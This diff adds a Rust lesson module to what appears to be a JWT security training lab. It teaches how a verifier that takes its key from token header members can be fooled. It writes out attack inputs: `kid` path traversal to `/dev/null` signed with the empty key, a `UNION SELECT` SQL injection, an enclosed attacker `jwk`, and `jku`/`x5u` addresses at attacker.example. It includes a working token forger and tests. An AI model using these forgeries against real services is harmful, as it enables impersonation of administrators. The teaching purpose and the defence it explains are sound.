@@ -1,0 +1,438 @@
+//! Keys in the header: a token that says which key it wants to be checked with.
+
+use aws_lc_rs::hmac;
+use chrono::{DateTime, Utc};
+use serde_json::{Map, Value, json};
+use url::{Host, Url};
+
+use super::gullible::{Loose, Objection, clip};
+use super::{Choice, Lesson, Question};
+use crate::keys::{Algorithm, GivenKey, Signer, SigningError, Verifier};
+use crate::lab::forge::mac;
+use crate::token::{Claims, signing_input};
+
+pub(super) static LESSON: Lesson = Lesson {
+    slug: "keys-in-the-header",
+    title: "Keys in the header",
+    goal: "Let a token for `admin` choose the key that it is checked with.",
+    minutes: 12,
+    question: Question {
+        asks: "The token carries a `jwk`, and its signature fits that key. What does this prove?",
+        choices: &[
+            Choice {
+                value: "issuer",
+                says: "That the issuer signed it",
+                is_right: false,
+                reply: "Anyone can make a key pair, sign with it and enclose the public half.",
+            },
+            Choice {
+                value: "holder",
+                says: "That somebody had the private half of the enclosed key",
+                is_right: true,
+                reply: "That, and nothing of who it was.",
+            },
+            Choice {
+                value: "nothing",
+                says: "That the `jwk` is in the server's key set",
+                is_right: false,
+                reply: "Nobody looked there. A verifier that does look needs no `jwk` in the token.",
+            },
+        ],
+    },
+    hints: &[
+        "Take `kid` as a path. Which file is there on every Unix machine and holds nothing?",
+        "A key that was read from an empty file is the empty key, and with that you can sign.",
+        "The other doors: an enclosed `jwk` goes with the attacker's own key; so do a `jku` and an `x5u` that lead to the \
+         attacker's site. In SQL, a `UNION SELECT` puts a text of your choice in the place of the key.",
+    ],
+    solution: "As the member choose *kid, read as a path*, as its value write `/dev/null`, sign with *the empty key*, and \
+               press *Forge and send*.",
+    why: &[
+        "`kid`, `jwk`, `jku`, `x5u` and `x5c` are written by whoever writes the token. A verifier that takes its key from \
+         there checks that the token agrees with itself.",
+        "`kid` is a name to look up among keys that are already trusted, and nothing else: not a path, not a piece of \
+         SQL, not a command. Here it is compared with the names in the key ring, and one that is not there is \
+         `unknown_kid`.",
+        "The other four are refused unread. Here that costs nothing, for the key ring is loaded at the start; and a \
+         verifier that follows no address cannot be sent to one.",
+        "The five doors, each with its key: a path to `/dev/null` and the empty key; `' UNION SELECT 'x` and the secret \
+         `x`; the attacker's `jwk` and the attacker's key; `https://attacker.example/jwks.json` as `jku` and the same key; the same as `x5u`.",
+    ],
+    rfcs: &["RFC 8725 §3.10", "RFC 8725 §2.10", "RFC 7515 §4.1.4"],
+};
+
+/// The longest value and the longest secret, in characters.
+pub const LONGEST_FIELD: usize = 2000;
+
+/// Whose site the attacker's is. The name is reserved (RFC 2606 §3): nobody answers to it.
+pub const ATTACKER: &str = "attacker.example";
+
+/// Where the naive verifier keeps its keys; it is only ever a text here.
+pub const FOLDER: &str = "/srv/app/keys";
+
+/// The header member that leads to a key.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Member {
+    KidPath,
+    KidSql,
+    Jwk,
+    Jku,
+    X5u,
+}
+
+impl Member {
+    pub const ALL: [Self; 5] = [Self::KidPath, Self::KidSql, Self::Jwk, Self::Jku, Self::X5u];
+
+    pub const fn value(self) -> &'static str {
+        match self {
+            Self::KidPath => "kid-path",
+            Self::KidSql => "kid-sql",
+            Self::Jwk => "jwk",
+            Self::Jku => "jku",
+            Self::X5u => "x5u",
+        }
+    }
+
+    pub const fn says(self) -> &'static str {
+        match self {
+            Self::KidPath => "kid, read as a path",
+            Self::KidSql => "kid, put into SQL",
+            Self::Jwk => "jwk, an enclosed key",
+            Self::Jku => "jku, the address of a key set",
+            Self::X5u => "x5u, the address of a certificate",
+        }
+    }
+
+    pub fn find(value: &str) -> Option<Self> {
+        Self::ALL.into_iter().find(|it| it.value() == value)
+    }
+
+    /// What the naive verifier does with it.
+    pub const fn rule(self) -> &'static str {
+        match self {
+            Self::KidPath => {
+                "It joins `/srv/app/keys` and the token's `kid`, and would take what that file holds for the secret."
+            }
+            Self::KidSql => {
+                "It would ask its database `SELECT secret FROM keys WHERE kid = '…'`, with the token's `kid` for the dots."
+            }
+            Self::Jwk => "It checks the signature with the `jwk` that the token encloses.",
+            Self::Jku => "It would fetch the key set at the token's `jku` and check the signature with that.",
+            Self::X5u => "It would fetch the certificate at the token's `x5u` and check the signature with that.",
+        }
+    }
+
+    const fn name(self) -> &'static str {
+        match self {
+            Self::KidPath | Self::KidSql => "kid",
+            Self::Jwk => "jwk",
+            Self::Jku => "jku",
+            Self::X5u => "x5u",
+        }
+    }
+
+    /// A `jwk` is JSON where it can be; everything else is text.
+    fn json(self, value: &str) -> Value {
+        let parsed = (self == Self::Jwk).then(|| serde_json::from_str(value).ok()).flatten();
+        parsed.unwrap_or_else(|| Value::from(value))
+    }
+}
+
+/// What the token is signed with.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum With {
+    EmptyKey,
+    Secret,
+    AttackersKey,
+}
+
+impl With {
+    pub const ALL: [Self; 3] = [Self::AttackersKey, Self::Secret, Self::EmptyKey];
+
+    pub const fn value(self) -> &'static str {
+        match self {
+            Self::EmptyKey => "empty",
+            Self::Secret => "secret",
+            Self::AttackersKey => "attacker",
+        }
+    }
+
+    pub const fn says(self) -> &'static str {
+        match self {
+            Self::EmptyKey => "the empty key, HS256",
+            Self::Secret => "a secret of my own, HS256",
+            Self::AttackersKey => "the attacker's private key, RS256",
+        }
+    }
+
+    pub fn find(value: &str) -> Option<Self> {
+        Self::ALL.into_iter().find(|it| it.value() == value)
+    }
+
+    /// What the forged token says that it is signed with.
+    pub const fn algorithm(self) -> Algorithm {
+        match self {
+            Self::EmptyKey | Self::Secret => Algorithm::Hs256,
+            Self::AttackersKey => Algorithm::Rs256,
+        }
+    }
+}
+
+/// What a forger chose.
+pub struct Choices<'a> {
+    pub member: Member,
+    pub value: &'a str,
+    pub with: With,
+    /// What [`With::Secret`] signs with.
+    pub secret: &'a str,
+}
+
+/// A token with these claims whose header has the member.
+pub fn forge(choices: &Choices<'_>, claims: &Claims, attacker: &Signer) -> Result<String, SigningError> {
+    let Choices { member, value, with, secret } = *choices;
+    let mut header = Map::new();
+    header.insert("alg".to_owned(), json!(with.algorithm().as_str()));
+    header.insert(member.name().to_owned(), member.json(value));
+    header.insert("typ".to_owned(), json!("JWT"));
+    let payload = serde_json::to_string(claims).unwrap_or_default();
+    let unsigned = signing_input(Value::Object(header).to_string(), payload);
+    let signature = match with {
+        With::EmptyKey => mac(hmac::HMAC_SHA256, b"", &unsigned),
+        With::Secret => mac(hmac::HMAC_SHA256, secret.as_bytes(), &unsigned),
+        With::AttackersKey => attacker.sign(unsigned.as_bytes())?,
+    };
+    Ok(format!("{unsigned}.{signature}"))
+}
+
+/// What a verifier says that takes its key from where this member leads. Nothing is opened, asked or fetched: what it
+/// would find there is known beforehand. `attacker` is the key that lies on the attacker's site.
+pub fn naive(token: &str, member: Member, attacker: &Verifier, now: DateTime<Utc>) -> Result<Claims, Objection> {
+    let loose = Loose::read(token)?;
+    let value = loose.header.get(member.name()).cloned().unwrap_or_default();
+    let text = value.as_str().unwrap_or_default();
+    let (fits, key) = match member {
+        Member::KidPath => (loose.is_mac(hmac::HMAC_SHA256, file_at(text)?), "what that file holds, nothing at all"),
+        Member::KidSql => {
+            (loose.is_mac(hmac::HMAC_SHA256, row_of(text)?.as_bytes()), "the text that the database answers")
+        }
+        Member::Jwk => {
+            (enclosed(&value)?.verifies(loose.signed.as_bytes(), loose.signature), "the key that is enclosed")
+        }
+        Member::Jku | Member::X5u => {
+            expect_attackers_site(text)?;
+            (attacker.verifies(loose.signed.as_bytes(), loose.signature), "the key that lies there")
+        }
+    };
+    if fits { loose.claims(now) } else { Err(Objection::BadSignature(key.to_owned())) }
+}
+
+/// What the file holds that a `kid` leads to, where the forger knows it.
+fn file_at(kid: &str) -> Result<&'static [u8], Objection> {
+    match resolved(kid).as_str() {
+        "/dev/null" => Ok(b""),
+        path => {
+            Err(Objection::NoKey(format!("it would open {}, and what that holds a forger does not know", clip(path))))
+        }
+    }
+}
+
+/// The path that comes of joining the folder and a `kid`: an absolute one replaces it, as in most languages.
+fn resolved(kid: &str) -> String {
+    let joined = if kid.starts_with('/') { kid.to_owned() } else { format!("{FOLDER}/{kid}") };
+    let mut names = Vec::new();
+    for name in joined.split('/') {
+        match name {
+            "" | "." => {}
+            ".." => drop(names.pop()),
+            name => names.push(name),
+        }
+    }
+    format!("/{}", names.join("/"))
+}
+
+/// The text that a `kid` makes the statement answer, where it is a `UNION SELECT` of one text.
+fn row_of(kid: &str) -> Result<String, Objection> {
+    let statement = format!("{kid}'");
+    let (_, rest) = statement.split_once('\'').unwrap_or_default();
+    if rest.is_empty() {
+        return Err(Objection::NoKey("the statement finds no row: there is no key of that name".to_owned()));
+    }
+    let selected =
+        after(rest, "union").map(|rest| after(rest, "all").unwrap_or(rest)).and_then(|it| after(it, "select"));
+    let literal = selected.and_then(|it| it.trim_start().strip_prefix('\'')).and_then(|it| it.split_once('\''));
+    match literal {
+        Some((text, end)) if ends_statement(end) => Ok(text.to_owned()),
+        Some(_) => Err(Objection::NoKey("the statement is no SQL: after your text a quote is left over".to_owned())),
+        None => Err(Objection::NoKey(
+            "the statement is broken or finds no row: nothing after your quote selects a text".to_owned(),
+        )),
+    }
+}
+
+/// What comes after this word of SQL, in whatever case.
+fn after<'a>(text: &'a str, word: &str) -> Option<&'a str> {
+    let text = text.trim_start();
+    let (start, rest) = text.split_at_checked(word.len())?;
+    let ends = !rest.starts_with(|next: char| next.is_alphanumeric());
+    (start.eq_ignore_ascii_case(word) && ends).then_some(rest)
+}
+
+fn ends_statement(rest: &str) -> bool {
+    let rest = rest.trim_start();
+    rest.is_empty() || ["--", "#", "/*", ";"].iter().any(|mark| rest.starts_with(mark))
+}
+
+fn enclosed(jwk: &Value) -> Result<Verifier, Objection> {
+    let no_key = |why: String| Objection::NoKey(why);
+    if !jwk.is_object() {
+        return Err(no_key("the `jwk` is no JSON object, so no key is enclosed".to_owned()));
+    }
+    let key = GivenKey::parse(jwk.to_string().as_bytes(), "the enclosed key").and_then(|key| key.verifier(None));
+    key.map_err(|fault| no_key(format!("it cannot use the enclosed key: {}", clip(&fault.to_string()))))
+}
+
+/// Whether the attacker writes what lies at an address.
+fn expect_attackers_site(address: &str) -> Result<(), Objection> {
+    let url = Url::parse(address).map_err(|_| Objection::NoKey("the value is no address of a web page".to_owned()))?;
+    let is_web = matches!(url.scheme(), "http" | "https");
+    match url.host() {
+        Some(Host::Domain(host)) if is_web && (host == ATTACKER || host.ends_with(&format!(".{ATTACKER}"))) => Ok(()),
+        Some(host) if is_web => Err(Objection::NoKey(format!(
+            "it would fetch from {}, and there the attacker writes nothing",
+            clip(&host.to_string())
+        ))),
+        _ => Err(Objection::NoKey("the value is no address of a web page".to_owned())),
+    }
+}
+
+/// What a visitor hears: `Ok` when the lesson is solved, else what is still missing.
+pub fn judge(choices: &Choices<'_>, naive: &Result<Claims, Objection>) -> Result<&'static str, String> {
+    let Err(objection) = naive else { return Ok(taken(choices.member)) };
+    let near = match (objection, choices.member) {
+        _ if choices.value.trim().is_empty() => "The member needs a value that leads to a key which you know.",
+        (Objection::NoKey(_), Member::KidPath) => {
+            "The path leads somewhere, but not to a file whose content you know. Think of one that is always empty. A \
+             `kid` that starts with a slash replaces the folder; `..` leads out of it."
+        }
+        (Objection::NoKey(_), Member::KidSql) => {
+            "Close the quote that the statement opened, select a text of your own, and let the statement's own last \
+             quote close that."
+        }
+        (Objection::NoKey(_), Member::Jwk) => "Copy the attacker's public key from this page, with its braces.",
+        (Objection::NoKey(_), Member::Jku | Member::X5u) => {
+            "The address must lead to where the attacker writes what lies there: `https://attacker.example/`."
+        }
+        (Objection::BadSignature(_), Member::KidPath) => {
+            "Near: the path is right, and the file is empty. So the key is empty: sign with that one."
+        }
+        (Objection::BadSignature(_), Member::KidSql) => {
+            "Near: the statement answers your text. Sign with that very text as the secret."
+        }
+        (Objection::BadSignature(_), _) => {
+            "Near: it takes the key from where you say, but another one signed. Sign with the private half of that key."
+        }
+        _ => "The key is right, and the token was refused for something else.",
+    };
+    Err(near.to_owned())
+}
+
+const fn taken(member: Member) -> &'static str {
+    match member {
+        Member::KidPath => {
+            "An empty file makes an empty key, and you signed with it. The naive verifier takes you for `admin`."
+        }
+        Member::KidSql => "The database answered the secret that you chose. The naive verifier takes you for `admin`.",
+        Member::Jwk => "The token fits the key that it brought along. The naive verifier takes you for `admin`.",
+        Member::Jku => {
+            "It would have fetched the attacker's key set, and the signature fits that. It takes you for `admin`."
+        }
+        Member::X5u => {
+            "It would have fetched the attacker's certificate, and the signature fits that. It takes you for `admin`."
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PRIVATE: &str = include_str!("../../../tests/fixtures/keys/rsa-pkcs8.pem");
+    const PUBLIC_JWK: &str = include_str!("../../../tests/fixtures/keys/rsa-public.jwk.json");
+
+    fn outcome(member: Member, value: &str, with: With, secret: &str) -> Result<&'static str, String> {
+        let now = DateTime::from_timestamp(1_800_000_000, 0).unwrap();
+        let key = GivenKey::parse(PRIVATE.as_bytes(), "the attacker's key").unwrap();
+        let (signer, verifier) = (key.signer(None).unwrap(), key.verifier(None).unwrap());
+        let choices = Choices { member, value, with, secret };
+        let token = forge(&choices, &Claims::new().with("sub", "admin"), &signer).unwrap();
+        judge(&choices, &naive(&token, member, &verifier, now))
+    }
+
+    #[test]
+    fn a_path_to_the_empty_file_makes_the_empty_key() {
+        for path in ["/dev/null", "../../../dev/null", "../../../../../dev/null", "/etc/../dev/./null", "//dev//null"] {
+            assert!(outcome(Member::KidPath, path, With::EmptyKey, "").is_ok(), "{path}");
+            assert!(outcome(Member::KidPath, path, With::Secret, "").is_ok(), "{path}");
+            assert!(outcome(Member::KidPath, path, With::Secret, "x").unwrap_err().starts_with("Near"));
+        }
+        for path in ["dev/null", "../dev/null", "/etc/passwd", "jwt_key", "/dev/null/"] {
+            let said = outcome(Member::KidPath, path, With::EmptyKey, "");
+            assert_eq!(said.is_ok(), path == "/dev/null/", "{path}: {said:?}");
+        }
+    }
+
+    #[test]
+    fn a_union_answers_a_text_of_the_forger_s_choice() {
+        for (kid, secret) in [
+            ("' UNION SELECT 'x", "x"),
+            ("a' union all select 'a b' -- ", "a b"),
+            ("'  UnIoN  SELECT  'x' #", "x"),
+            ("' UNION SELECT '", ""),
+        ] {
+            assert!(outcome(Member::KidSql, kid, With::Secret, secret).is_ok(), "{kid}");
+            assert!(outcome(Member::KidSql, kid, With::Secret, "other").unwrap_err().starts_with("Near"), "{kid}");
+        }
+        for kid in ["x", "' OR 1=1 --", "' UNION SELECT 'x'", "' UNIONSELECT 'x", "' UNION SELECT secret FROM keys --"]
+        {
+            assert!(outcome(Member::KidSql, kid, With::Secret, "x").unwrap_err().contains("quote"), "{kid}");
+        }
+    }
+
+    #[test]
+    fn an_enclosed_key_fits_what_its_private_half_signed() {
+        assert!(outcome(Member::Jwk, PUBLIC_JWK, With::AttackersKey, "").is_ok());
+        assert!(outcome(Member::Jwk, PUBLIC_JWK, With::EmptyKey, "").unwrap_err().starts_with("Near"));
+        assert!(outcome(Member::Jwk, r#"{"kty":"oct","k":"eA"}"#, With::Secret, "x").is_ok());
+        for jwk in ["nonsense", "{}", r#"{"kty":"RSA","n":"AQ","e":"AQAB"}"#, "[]"] {
+            assert!(outcome(Member::Jwk, jwk, With::AttackersKey, "").unwrap_err().contains("Copy"), "{jwk}");
+        }
+    }
+
+    #[test]
+    fn an_address_counts_when_the_attacker_writes_what_lies_there() {
+        for member in [Member::Jku, Member::X5u] {
+            for address in [
+                "https://attacker.example/jwks.json",
+                "http://attacker.example",
+                "https://issuer.example.attacker.example/",
+                "https://issuer.example@attacker.example/",
+                "https://ATTACKER.example:8443/x#y",
+            ] {
+                assert!(outcome(member, address, With::AttackersKey, "").is_ok(), "{address}");
+                assert!(outcome(member, address, With::EmptyKey, "").unwrap_err().starts_with("Near"));
+            }
+            for address in
+                ["https://notattacker.example/", "attacker.example", "file:///dev/null", "https://127.0.0.1/"]
+            {
+                assert!(outcome(member, address, With::AttackersKey, "").is_err(), "{address}");
+            }
+        }
+    }
+
+    #[test]
+    fn a_member_without_a_value_leads_nowhere() {
+        for member in Member::ALL {
+            assert!(outcome(member, " ", With::EmptyKey, "").unwrap_err().contains("needs a value"));
+        }
+    }
+}
